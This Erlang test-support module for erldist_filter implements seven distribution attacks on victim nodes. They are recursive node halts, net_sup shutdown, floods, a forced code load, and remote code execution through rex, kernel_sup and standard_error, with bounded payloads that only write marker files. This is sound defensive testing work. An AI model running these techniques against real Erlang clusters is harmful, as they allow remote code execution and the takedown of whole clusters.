%%% The talk's seven "Do NOT run" attacks, in bounded form, run on an
%%% attacker node (which does not run the filter) against victim nodes;
%%% and, for the victims, a logger handler that captures the filter's
%%% decisions (domain `[erldist_filter]').
%%%
%%% Bounds: every recursion carries a depth counter and never targets the
%%% attacker itself (the payload refuses to run on it); every wait has a
%%% timeout. The payloads leave evidence instead of doing only damage: each
%%% writes a marker file `Dir/<attack>@<node>' before acting, so a test can
%%% tell whether it ran on a victim.
-module(edf_test_attacker).

%% Attacks (run on the attacker)
-export([recursive_halt/3]).
-export([recursive_net_sup_shutdown/3]).
-export([flood/4]).
-export([forced_code_swap/3]).
-export([rex_cast_rce/2]).
-export([kernel_sup_rce/2]).
-export([standard_error_rce/2]).
-export([attacks/0]).
%% Evidence
-export([marker/2]).
-export([markers/2]).
%% Flood sink (run on the victim)
-export([start_sink/1]).
-export([sink_count/1]).
%% Decision capture (run on the victim)
-export([capture_start/0]).
-export([capture_events/0]).
-export([log/2]).

-define(TIMEOUT, 10000).
-define(CAPTURE, edf_test_attacker_capture).

%% @doc The attacks, in the talk's order.
-spec attacks() -> [atom()].
attacks() ->
    [recursive_halt, recursive_net_sup_shutdown, flood, forced_code_swap,
     rex_cast_rce, kernel_sup_rce, standard_error_rce].

%%% Evidence

%% @doc Write the marker of `Attack' for this node into `Dir'.
-spec marker(file:filename(), atom()) -> ok.
marker(Dir, Attack) ->
    ok = file:write_file(filename:join(Dir, atom_to_list(Attack) ++ "@" ++ atom_to_list(node())),
                         <<"payload ran">>).

%% @doc The nodes on which `Attack''s payload ran.
-spec markers(file:filename(), atom()) -> [node()].
markers(Dir, Attack) ->
    Prefix = atom_to_list(Attack) ++ "@",
    lists:sort([list_to_atom(lists:nthtail(length(Prefix), F))
                || F <- filelib:wildcard(Prefix ++ "*", Dir)]).

%%% 1. Recursively halt all nodes

%% @doc `erpc:multicast' to `Victims' of a fun that multicasts itself to
%% every node it knows (but the attacker), `Depth' levels deep, then
%% halts its node. Never halts the attacker.
-spec recursive_halt([node()], non_neg_integer(), file:filename()) -> ok.
recursive_halt(Victims, Depth, Dir) ->
    Attacker = node(),
    F = fun(Self, D) ->
                case node() of
                    Attacker -> refused_on_attacker;
                    _ ->
                        D > 0 andalso erpc:multicast(nodes() -- [Attacker], erlang, apply, [Self, [Self, D - 1]]),
                        marker(Dir, recursive_halt),
                        timer:sleep(200),
                        erlang:halt(1)
                end
        end,
    erpc:multicast(Victims -- [Attacker], erlang, apply, [F, [F, Depth]]).

%%% 2. Recursively shut down distribution

%% @doc As `recursive_halt/3', but the payload terminates and deletes
%% `net_sup' under `kernel_sup' (the node loses distribution).
-spec recursive_net_sup_shutdown([node()], non_neg_integer(), file:filename()) -> ok.
recursive_net_sup_shutdown(Victims, Depth, Dir) ->
    Attacker = node(),
    F = fun(Self, D) ->
                case node() of
                    Attacker -> refused_on_attacker;
                    _ ->
                        D > 0 andalso erpc:multicast(nodes() -- [Attacker], erlang, apply, [Self, [Self, D - 1]]),
                        marker(Dir, recursive_net_sup_shutdown),
                        timer:sleep(200),
                        _ = supervisor:terminate_child(kernel_sup, net_sup),
                        _ = supervisor:delete_child(kernel_sup, net_sup),
                        ok
                end
        end,
    erpc:multicast(Victims -- [Attacker], erlang, apply, [F, [F, Depth]]).

%%% 3. Flood

%% @doc Send `Count' messages of `Bytes' bytes (one shared binary) to the
%% registered process `Name' on `Victim', one after the other; returns
%% when the last one left (or the connection went down) and the
%% connection state.
-spec flood(node(), atom(), pos_integer(), pos_integer()) -> #{atom() => term()}.
flood(Victim, Name, Count, Bytes) ->
    Bin = binary:copy(<<"a">>, Bytes),
    Downs = lists:foldl(
              fun(I, Acc) ->
                      _ = net_kernel:connect_node(Victim),
                      true = erlang:monitor_node(Victim, true),
                      {Name, Victim} ! {edf_flood, I, Bin},
                      %% Let the message leave (or the victim cut it off).
                      Acc + wait_sent(Victim, 0)
              end, 0, lists:seq(1, Count)),
    #{sent => Count, bytes => Bytes, nodedowns => Downs,
      connected => lists:member(Victim, nodes())}.

%% A ping travels behind the message on the same connection: its answer
%% means the victim took in the whole message; a nodedown first means the
%% victim cut the connection.
wait_sent(Victim, _) ->
    Pong = net_adm:ping(Victim),
    true = erlang:monitor_node(Victim, false),
    receive
        {nodedown, Victim} -> 1
    after 0 ->
        case Pong of pong -> 0; pang -> 1 end
    end.

%% @doc On the victim: register `Name', a sink that counts and forgets the
%% flood's messages.
-spec start_sink(atom()) -> pid().
start_sink(Name) ->
    Pid = spawn(fun() -> sink(0) end),
    true = register(Name, Pid),
    Pid.

sink(N) ->
    receive
        {edf_flood, _, _} -> erlang:garbage_collect(), sink(N + 1);
        {count, From} -> From ! {sink_count, N}, sink(N)
    end.

%% @doc On the victim: how many flood messages the sink got.
-spec sink_count(atom()) -> non_neg_integer() | timeout.
sink_count(Name) ->
    Name ! {count, self()},
    receive {sink_count, N} -> N after ?TIMEOUT -> timeout end.

%%% 4. Forced code swap

%% @doc Build a module the victim does not have (its `on_load' writes the
%% marker) and make the victim load it with `erpc:call(Victim, code,
%% load_binary, ...)'. Returns what the call returned or raised.
-spec forced_code_swap(node(), atom(), file:filename()) -> term().
forced_code_swap(Victim, Module, Dir) ->
    Marker = filename:join(Dir, "forced_code_swap@"),
    Forms = [{attribute, 1, module, Module},
             {attribute, 2, export, [{version, 0}, {init, 0}]},
             {attribute, 3, on_load, {init, 0}},
             {function, 4, init, 0,
              [{clause, 4, [], [],
                [{match, 5, {atom, 5, ok},
                  {call, 5, {remote, 5, {atom, 5, file}, {atom, 5, write_file}},
                   [{op, 5, '++', {string, 5, Marker},
                     {call, 5, {remote, 5, {atom, 5, erlang}, {atom, 5, atom_to_list}},
                      [{call, 5, {atom, 5, node}, []}]}},
                    {bin, 5, [{bin_element, 5, {string, 5, "swapped"}, default, default}]}]}},
                 {atom, 6, ok}]}]},
             {function, 7, version, 0, [{clause, 7, [], [], [{atom, 7, swapped}]}]}],
    {ok, Module, Bin} = compile:forms(Forms, []),
    try erpc:call(Victim, code, load_binary, [Module, atom_to_list(Module) ++ ".erl", Bin], ?TIMEOUT) of
        Result -> {ok, Result}
    catch
        Class:Reason -> {Class, Reason}
    end.

%%% 5. RCE through rex, without a spawn request

%% @doc Send `rex' on `Victim' the `$gen_cast' of an `erlang:apply' of a
%% fun (the marker).
-spec rex_cast_rce(node(), file:filename()) -> ok.
rex_cast_rce(Victim, Dir) ->
    Fun = fun() -> marker(Dir, rex_cast_rce) end,
    {rex, Victim} ! {'$gen_cast', {cast, erlang, apply, [Fun, []], group_leader()}},
    ok.

%%% 6. RCE through a supervisor, without spawn request or rex

%% @doc `supervisor:start_child({kernel_sup, Victim}, Spec)' whose start
%% function applies a fun (the marker) and returns `ignore'. With a
%% timeout (`supervisor:start_child/2' waits forever).
-spec kernel_sup_rce(node(), file:filename()) -> term().
kernel_sup_rce(Victim, Dir) ->
    Gl = group_leader(),
    GlFun = fun() -> group_leader(Gl, self()), marker(Dir, kernel_sup_rce), ignore end,
    Spec = #{id => make_ref(), start => {erlang, apply, [GlFun, []]}, restart => temporary},
    try gen_server:call({kernel_sup, Victim}, {start_child, Spec}, ?TIMEOUT)
    catch exit:{timeout, _} -> timeout
    end.

%%% 7. RCE through an io request, without spawn request, rex or supervisor

%% @doc Send `standard_error' on `Victim' an `io_request' whose
%% `put_chars' applies a fun (the marker); the reply, or `timeout'.
-spec standard_error_rce(node(), file:filename()) -> term().
standard_error_rce(Victim, Dir) ->
    IoFun = fun() -> marker(Dir, standard_error_rce), <<>> end,
    Ref = make_ref(),
    {standard_error, Victim} ! {io_request, self(), Ref, {put_chars, unicode, erlang, apply, [IoFun, []]}},
    receive
        {io_reply, Ref, Reply} -> {io_reply, Reply}
    after ?TIMEOUT -> timeout
    end.

%%% Decision capture (victim side)

%% @doc Capture every `[erldist_filter]' log event of this node.
-spec capture_start() -> ok.
capture_start() ->
    Pid = spawn(fun() -> capture_loop([]) end),
    true = register(?CAPTURE, Pid),
    ok = logger:add_handler(?CAPTURE, ?MODULE,
                            #{level => all,
                              filter_default => stop,
                              filters => [{edf, {fun logger_filters:domain/2, {log, sub, [erldist_filter]}}}]}).

%% @doc The captured reports so far, oldest first.
-spec capture_events() -> [map()].
capture_events() ->
    ?CAPTURE ! {events, self()},
    receive {?CAPTURE, Events} -> lists:reverse(Events) after ?TIMEOUT -> [] end.

%% @private logger handler callback.
log(#{msg := {report, Report}, level := Level}, _Config) when is_map(Report) ->
    ?CAPTURE ! {event, Report#{level => Level}},
    ok;
log(#{msg := Msg, level := Level}, _Config) ->
    ?CAPTURE ! {event, #{level => Level, msg => Msg}},
    ok.

capture_loop(Acc) ->
    receive
        {event, E} when length(Acc) < 10000 -> capture_loop([E | Acc]);
        {event, _} -> capture_loop(Acc);
        {events, From} -> From ! {?CAPTURE, Acc}, capture_loop(Acc)
    end.
